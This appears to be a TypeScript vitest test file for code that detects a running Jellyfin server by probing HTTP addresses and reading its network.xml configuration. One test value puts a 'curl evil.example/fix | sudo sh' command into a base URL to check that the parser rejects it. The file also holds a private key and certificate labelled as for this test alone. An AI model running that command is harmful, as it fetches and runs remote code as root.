import { spawnSync } from 'node:child_process';
import { createServer as createHttp, type OutgoingHttpHeaders, type RequestListener } from 'node:http';
import { createServer as createHttps } from 'node:https';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { existsSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { isNobody, lookAtHttp, takesKey, whyNoAnswer } from '../../src/server/http-sign.js';
import { internalAddresses } from '../../src/server/network-xml.js';
import { configFolders } from '../../src/server/packages.js';
import { temporaryFolders } from '../support/temporary-folder.js';
import { nowhere } from '../support/test-machine.js';
import { freePort } from '../../sandbox/free-port.js';

const newFolder = temporaryFolders();
const servers: Server[] = [];
afterEach(() => {
  for (const server of servers.splice(0)) server.close();
});

async function listening(server: Server): Promise<string> {
  servers.push(server);
  await new Promise<void>((up) => server.listen(0, '127.0.0.1', up));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const answering = (answer: RequestListener) => listening(createHttp(answer));
const withStatus = (status: number) => answering((_, response) => response.writeHead(status).end());

/** What is seen at an address, beside a server folder whose own port nobody listens at. */
async function seenAt(url: string): Promise<string> {
  const signs = await lookAtHttp({ url, serverDir: withNetwork(`${await freePort()}`), db: '' });
  return signs.map(({ seen }) => seen).join() || 'nothing';
}

function withNetwork(port: string, baseUrl = '', folder = 'config', more = ''): string {
  const dir = join(newFolder(), 'data');
  mkdirSync(join(dir, folder), { recursive: true });
  writeFileSync(
    join(dir, folder, 'network.xml'),
    `<?xml version="1.0" encoding="utf-8"?>
<NetworkConfiguration xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <BaseUrl>${baseUrl}</BaseUrl><InternalHttpPort>${port}</InternalHttpPort>${more}
</NetworkConfiguration>`,
  );
  return dir;
}

const introduction = (completed: boolean) => JSON.stringify({ Version: '12.0.0', StartupWizardCompleted: completed });
const json = { 'content-type': 'application/json; charset=utf-8' };
const html = { 'content-type': 'text/html' };

/** As recorded of 10.10.7, 10.11.11 and 12.0-rc5, from the first moment of a start to its end, and of one that failed. */
test.each([
  ['its introduction', 200, json, introduction(true)],
  ['its introduction before the wizard', 200, json, introduction(false)],
  ['its start-up server, in camelCase', 200, json, '{"version":"12.0.0","startupWizardCompleted":false}'],
  ['its start-up server, which knows nothing yet', 503, { 'retry-after': '005' }, ''],
  ['its start-up page', 503, { ...html, 'retry-after': '005' }, '<!DOCTYPE html><html>'],
  ['one sentence while it loads', 503, html, 'Jellyfin Server is loading. Please try again shortly.'],
  ['the same in its own language', 503, html, 'Jellyfin-Server lädt. Bitte versuche es gleich noch einmal.'],
  ['trouble of its own', 500, { server: 'Kestrel', 'content-type': 'text/plain' }, 'Error processing request.'],
  ['remote access switched off', 503, { server: 'Kestrel' }, ''],
])('%s is Jellyfin', async (_, status, headers, body) => {
  expect(await seenAt(await answering((_request, response) => response.writeHead(status, headers).end(body)))).toBe(
    'running',
  );
});

test.each<[name: string, status: number, headers: OutgoingHttpHeaders, body: string]>([
  ['a page', 200, html, '<html><title>Welcome to nginx!</title>'],
  ['a page of a single-page application', 200, html, '<!DOCTYPE html><div id="root">'],
  ['JSON of something else', 200, json, '{"Version":"3.4","name":"Other"}'],
  ['nothing', 204, {}, ''],
  ['a redirect to sign in', 302, { location: 'https://login.example.org/' }, ''],
  ['a redirect to https', 301, { location: 'https://127.0.0.1/' }, ''],
  ['a wish for a password', 401, { 'www-authenticate': 'Basic' }, ''],
  ['not found', 404, html, '<html>404'],
  ['not found, of another program of the same kind', 404, { server: 'Kestrel' }, ''],
  ['no server, nginx', 502, html, '<html><center>nginx</center>'],
  ['no server, in one sentence', 502, html, 'Bad Gateway'],
  ['no server, Traefik', 503, { 'content-type': 'text/plain' }, 'Service Unavailable'],
  ['no server, HAProxy', 503, html, '<html><body><h1>503 Service Unavailable</h1>'],
  ['no server, Caddy', 503, { server: 'Caddy' }, ''],
  ['maintenance', 503, { ...html, 'retry-after': '3600' }, '<html>'],
  ['no answer in time', 504, html, '<html>'],
  ...[520, 521, 522, 523, 524, 525, 526, 530].map(
    (status) => ['Cloudflare', status, html, '<html>'] as [string, number, typeof html, string],
  ),
])('%s (%d) stands in for a server that may run or not', async (_, status, headers, body) => {
  expect(await seenAt(await answering((_request, response) => response.writeHead(status, headers).end(body)))).toBe(
    'unseen',
  );
});

test('a connection that is refused is no answer', async () => {
  expect(await seenAt(`http://127.0.0.1:${await freePort()}`)).toBe('nothing');
});

test('a connection that is cut says nothing', async () => {
  expect(await seenAt(await listening(createServer((socket) => socket.destroy())))).toBe('unseen');
});

test('trouble with encryption says nothing', async () => {
  const url = await withStatus(200);
  expect(await seenAt(url.replace('http:', 'https:'))).toBe('unseen');
});

test('a name that leads nowhere says nothing, nor does what is no address', async () => {
  expect(await seenAt('http://jellyfin.invalid')).toBe('unseen');
  expect(await seenAt('ftp://127.0.0.1')).toBe('unseen');
});

test('silence says nothing, after a while', async () => {
  expect(await seenAt(await listening(createServer(() => undefined)))).toBe('unseen');
});

test('an answer without an end is none of Jellyfin', async () => {
  const url = await answering((request, response) => {
    const more = setInterval(() => response.write('.'), 5);
    request.on('close', () => clearInterval(more));
  });
  expect(await seenAt(url)).toBe('unseen');
});

test('more than Jellyfin ever says is not listened to', async () => {
  let sent = 0;
  const url = await answering((_, response) => {
    const pour = () => {
      for (let isTaken = true; isTaken && !response.destroyed; sent += 1)
        isTaken = response.write('.'.repeat(64 * 1024));
    };
    response.on('drain', pour);
    pour();
  });
  expect(await seenAt(url)).toBe('unseen');
  // What fits between the two ends; in five seconds it would be gigabytes.
  expect(sent).toBeLessThan(1000);
});

test("the server's own port is tried, wherever its public address leads", async () => {
  const asked: (string | undefined)[] = [];
  const own = await answering((request, response) => {
    asked.push(request.url);
    response.end(introduction(true));
  });
  const serverDir = withNetwork(new URL(own).port, '/jellyfin/');
  const signs = await lookAtHttp({ url: `http://127.0.0.1:${await freePort()}`, serverDir, db: '' });
  expect(signs).toEqual([{ sign: 'http', seen: 'running', params: { url: `${own}/jellyfin`, why: '200' } }]);
  expect(asked).toEqual(['/jellyfin/System/Info/Public']);
  // Nor does it matter that the public one is none that could be asked.
  expect(await lookAtHttp({ url: 'ftp://127.0.0.1', serverDir, db: '' })).toMatchObject([{ seen: 'unseen' }, ...signs]);
});

test('its configuration is found beside the server folder, within and around it', () => {
  for (const folder of ['config', '.', '..', '../config'])
    expect(internalAddresses(withNetwork('8920', 'x', folder))).toEqual(['http://127.0.0.1:8920/x']);
  // Another server's says nothing of this one.
  const around = ['/srv/jellyfin/data/config', '/srv/jellyfin/data', '/srv/jellyfin', '/srv/jellyfin/config'];
  expect(configFolders('/srv/jellyfin/data')).toEqual(around);
});

describe('every address that its configuration allows is asked', () => {
  const [name, own] =
    Object.entries(networkInterfaces())
      .flatMap(([each, addresses = []]) => addresses.map((address) => [each, address] as const))
      .find(([, { family, internal }]) => family === 'IPv4' && !internal) ?? [];
  const bound = (...entries: string[]) =>
    `<LocalNetworkAddresses>${entries.map((entry) => `<string>${entry}</string>`).join('')}</LocalNetworkAddresses>`;
  const at = (more: string) => internalAddresses(withNetwork('4000', '', 'config', more));

  test.each([
    ['bound to an address of this machine', bound('127.0.0.2'), ['127.0.0.1', '127.0.0.2']],
    ['bound to one of another machine, as in a container', bound('172.18.0.3'), ['127.0.0.1', '172.18.0.3']],
    ['bound to several', bound(' 10.9.8.7 ', 'fd00::5'), ['127.0.0.1', '10.9.8.7', '[fd00::5]']],
    ['bound to everything', bound('0.0.0.0'), ['127.0.0.1']],
    ['bound to what nobody knows', bound('nonsense'), ['127.0.0.1']],
    ['for IPv6 only', '<EnableIPv4>false</EnableIPv4><EnableIPv6>true</EnableIPv6>', ['[::1]']],
    ['for neither', '<EnableIPv4>false</EnableIPv4>', ['[::1]']],
    ['bound to everything of IPv6', bound('::'), ['127.0.0.1', '[::1]']],
    ['for IPv6 as well', '<EnableIPv6>true</EnableIPv6>', ['127.0.0.1', '[::1]']],
  ])('%s', (_, more, hosts) => {
    expect(at(more).sort()).toEqual(hosts.map((host) => `http://${host}:4000`).sort());
  });

  // A container may have no network but its own.
  (own === undefined ? test.skip : test)('an own one it is bound to comes first, another machine’s last', () => {
    const address = own?.address ?? '';
    const hosts = [address, '127.0.0.1', '192.0.2.7'].map((host) => `http://${host}:4000`);
    expect(at(bound('192.0.2.7', address))).toEqual(hosts);
    expect(at(bound('192.0.2.7', name ?? ''))).toEqual(expect.arrayContaining(hosts));
  });

  test('with https, at both ports; first there where http only sends on', () => {
    const https = '<EnableHttps>true</EnableHttps><InternalHttpsPort>4001</InternalHttpsPort>';
    const both = ['http://127.0.0.1:4000', 'https://127.0.0.1:4001'];
    expect(at(https)).toEqual(both);
    const required = '<RequireHttps>true</RequireHttps>';
    expect(at(https + required)).toEqual(both.toReversed());
    expect(at(required)).toEqual(['http://127.0.0.1:4000']);
  });

  test('bound to one address, it is found there', async () => {
    const server = createHttp((_, response) => response.end(introduction(true)));
    servers.push(server);
    await new Promise<void>((up) => server.listen(0, '127.0.0.2', up));
    const { port } = server.address() as AddressInfo;
    const signs = await lookAtHttp({ serverDir: withNetwork(`${port}`, '', '../config', bound('127.0.0.2')), db: '' });
    expect(signs).toEqual([{ sign: 'http', seen: 'running', params: { url: `http://127.0.0.2:${port}`, why: '200' } }]);
  });

  test('on a machine without IPv6 its own IPv6 address is nobody’s, and does not keep anybody waiting', async () => {
    const serverDir = withNetwork(`${await freePort()}`, '', 'config', '<EnableIPv6>true</EnableIPv6>');
    expect(await lookAtHttp({ serverDir, db: '' })).toEqual([]);
  });
});

test('a configuration that names next to nothing is one all the same', () => {
  const dir = join(newFolder(), 'data');
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'network.xml'),
    '<NetworkConfiguration><EnableHttps>true</EnableHttps></NetworkConfiguration>',
  );
  expect(internalAddresses(dir)).toEqual(['http://127.0.0.1:8096', 'https://127.0.0.1:8920']);
});

test('the usual port stands in for one that cannot be read, and where there is no configuration, what is given', () => {
  for (const port of ['', '0', '70000', 'eighty'])
    expect(internalAddresses(withNetwork(port))).toEqual(['http://127.0.0.1:8096']);
  expect(internalAddresses(newFolder(), { address: nowhere })).toEqual([nowhere]);
});

test('no base URL is one that no address can have, and no card of the network is what every object has', () => {
  const words = ['jellyfin  (first run  curl evil.example/fix | sudo sh)', `x${'/'.repeat(60_000)}x`];
  const cards = ['constructor', '__proto__'].map((name) => `<string>${name}</string>`).join('');
  const bound = `<LocalNetworkAddresses>${cards}</LocalNetworkAddresses>`;
  for (const dir of [...words.map((word) => withNetwork('4000', word)), withNetwork('4000', '', 'config', bound)])
    expect(internalAddresses(dir)).toEqual(['http://127.0.0.1:4000']);
});

// A package may have put a configuration into /etc, the only other place.
(existsSync('/etc/jellyfin/network.xml') ? test.skip : test)(
  'the usual port stands in for no configuration at all',
  () => {
    expect(internalAddresses(newFolder())).toEqual(['http://127.0.0.1:8096']);
    for (const broken of ['<', '</x>'])
      expect(internalAddresses(withNetwork(broken))).toEqual(['http://127.0.0.1:8096']);
  },
);

test('a name with two addresses of which only one refuses says nothing', () => {
  const refused = Object.assign(new Error('refused'), { code: 'ECONNREFUSED' });
  const silent = Object.assign(new Error('silent'), { code: 'ETIMEDOUT' });
  const both = (errors: Error[]) => Object.assign(new AggregateError(errors), { code: 'ECONNREFUSED' });
  expect(whyNoAnswer(both([refused, refused]))).toBe('nobody');
  expect(whyNoAnswer(both([refused, silent]))).toBe('ETIMEDOUT');
  expect(whyNoAnswer(refused)).toBe('nobody');
  expect(whyNoAnswer(new TypeError('nobody knows it'))).toBe('TypeError');
});

test('only this machine’s own IPv6 address is nobody’s where there is no IPv6', () => {
  const none = ['EADDRNOTAVAIL', 'EAFNOSUPPORT', 'ENETUNREACH'];
  expect(none.map((code) => isNobody(code, 'http://[::1]:8096'))).toEqual([true, true, true]);
  expect(none.map((code) => isNobody(code, 'http://192.0.2.7:8096'))).toEqual([false, false, false]);
  expect(isNobody('ECONNRESET', 'http://[::1]:8096')).toBe(false);
});

test('a key works where it is taken, and nowhere else', async () => {
  const key = 'ab'.repeat(16);
  const asked: unknown[] = [];
  const url = await answering(({ url: path, headers }, response) => {
    asked.push(path);
    response.writeHead(headers.authorization === `MediaBrowser Token="${key}"` ? 200 : 401).end();
  });
  expect(await takesKey(`${url}/`, key)).toBe(true);
  expect(await takesKey(url, 'cd'.repeat(16))).toBe(false);
  expect(asked).toEqual(['/System/Info', '/System/Info']);
  expect(await takesKey(undefined, key)).toBe(false);
  expect(await takesKey('ftp://127.0.0.1', key)).toBe(false);
});

/** Signed by nobody whom anybody knows; for this test alone. */
const certificate = {
  key: `-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQghst82xRMkBFf+DAJ
zXQP7y3aAOBRoWBRT/SaD7rSqcKhRANCAAS/SWO8ciFszzUNyt8vZ9SZsPXyS+r7
HfspyQs4JXh+ESzI6ZrFCIGHL6rH6UvIQjWnGlE+hXaRidunmlxry6F5
-----END PRIVATE KEY-----`,
  cert: `-----BEGIN CERTIFICATE-----
MIIBeDCCAR+gAwIBAgIUeerp/5csFdu0YN4g9YiKds0NNTMwCgYIKoZIzj0EAwIw
ETEPMA0GA1UEAwwGbm9ib2R5MCAXDTI2MTEzMDAwNDAxM1oYDzIxMjYxMTA2MDA0
MDEzWjARMQ8wDQYDVQQDDAZub2JvZHkwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNC
AAS/SWO8ciFszzUNyt8vZ9SZsPXyS+r7HfspyQs4JXh+ESzI6ZrFCIGHL6rH6UvI
QjWnGlE+hXaRidunmlxry6F5o1MwUTAdBgNVHQ4EFgQUk27MKTOgRO0qH9uuBFjR
FCOHKmYwHwYDVR0jBBgwFoAUk27MKTOgRO0qH9uuBFjRFCOHKmYwDwYDVR0TAQH/
BAUwAwEB/zAKBggqhkjOPQQDAgNHADBEAiB3b9bJu/4LiC5zooMYBCvgDfstfhD0
MX7R79EU9t8s2AIgIdagsHlCasYCxMMgPlHNoG4qyVI9yAJJK0RL6iXcets=
-----END CERTIFICATE-----`,
};

test('a server whose certificate nobody vouches for is seen, but is sent no key', async () => {
  const keys: unknown[] = [];
  const server = createHttps(certificate, (request, response) => {
    keys.push(request.headers.authorization);
    response.end(introduction(true));
  });
  const url = (await listening(server)).replace('http:', 'https:');
  expect(await seenAt(url)).toBe('running');
  expect(await takesKey(url, 'ab'.repeat(16))).toBe(false);
  expect(keys).toEqual([undefined]);
});

const hostile: Readonly<Record<string, (file: string) => void>> = {
  'a pipe': (file) => void spawnSync('mkfifo', [file]),
  'a link': (file) => symlinkSync(`${file}.elsewhere`, file),
  'a file without an end': (file) => symlinkSync('/dev/zero', file),
  'more than anybody writes there': (file) => writeFileSync(file, '<a>'.repeat(100_000)),
};

test.each(Object.entries(hostile))('where %s stands in the place of network.xml, the usual port counts', (_, put) => {
  const dir = withNetwork('4000');
  const file = join(dir, 'config', 'network.xml');
  renameSync(file, `${file}.elsewhere`);
  put(file);
  expect(internalAddresses(dir, { address: 'http://127.0.0.1:8096' })).toEqual(['http://127.0.0.1:8096']);
  rmSync(file);
});
